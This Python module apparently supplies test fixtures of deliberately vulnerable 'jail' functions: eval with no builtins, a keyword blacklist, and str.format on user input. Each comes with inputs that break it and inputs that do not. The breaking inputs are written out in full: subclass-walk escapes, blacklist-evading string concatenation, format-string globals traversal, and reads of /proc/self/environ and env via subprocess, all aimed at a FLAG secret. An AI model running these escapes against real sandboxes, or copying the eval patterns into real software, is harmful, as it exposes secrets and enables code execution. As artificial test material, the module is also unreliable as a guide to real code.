"""Jails of our own, for stand-ins and tests: each with inputs that open it, and some that do not.

They are texts here. Only the sandbox runs them.
"""

from typing import NamedTuple


class Jail(NamedTuple):
    """A jail and what is known about it."""

    source: str
    opening: tuple[str, ...]
    closed: tuple[str, ...]


_EMPTY = '''\
def jail(user_input):
    """Evaluate an expression, with no builtins at hand."""
    return eval(user_input, {"__builtins__": {}})
'''
_WORDS = """\
BANNED = ("import", "environ", "os", "open", "flag", "sys", "getattr")


def jail(user_input):
    if any(word in user_input.lower() for word in BANNED):
        return "That word is not allowed here."
    return eval(user_input)
"""
_FORMAT = """\
import os


class Guest:
    def __init__(self, name):
        self.name = name


def jail(user_input):
    if len(user_input) > 60:
        return "Keep it short."
    return ("Welcome, " + user_input).format(guest=Guest("nobody"))
"""
_NUMBERS = """\
import os


def jail(user_input):
    if not user_input.isdecimal() or len(user_input) > 6:
        return "A number of at most six digits, please."
    number = int(user_input)
    if number % 97 == 13 and number % 89 == 5 and number % 7 == 3:
        return os.environ["FLAG"]
    return "Wrong number."
"""

KEYS = (
    "__import__('os').environ['FLAG']",
    "import os; print(os.environ['FLAG'])",
    "FLAG",
    "{0}",
    "open('/proc/self/environ').read()",
    "__import__('subprocess').getoutput('env')",
)
"""What opens many a jail that thinks of little."""
JAILS = (
    Jail(
        _EMPTY.strip(),
        (
            "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close']"
            "[0].__init__.__globals__['environ']['FLAG']",
        ),
        ("1 + 1", "__import__('os').environ['FLAG']"),
    ),
    Jail(
        _WORDS.strip(),
        ('eval("__imp" + "ort__(\'o" + "s\').env" + "iron[\'FL" + "AG\']")',),
        ("__import__('os').environ['FLAG']", "2 ** 10"),
    ),
    Jail(
        _FORMAT.strip(),
        ("{guest.__init__.__globals__[os].environ[FLAG]}",),
        ("{guest.name}", "{0}", "somebody"),
    ),
    Jail(
        _NUMBERS.strip(),
        (str(next(n for n in range(10**6) if (n % 97, n % 89, n % 7) == (13, 5, 3))),),
        ("12", "open", "999999"),
    ),
)


def keys(source: str) -> tuple[str, ...]:
    """Return what somebody who knows these jails, and no others, would try at one in turn."""
    known = next((each.opening for each in JAILS if each.source == source.strip()), ())
    return (*known, *KEYS, *(each.opening[0] for each in JAILS))
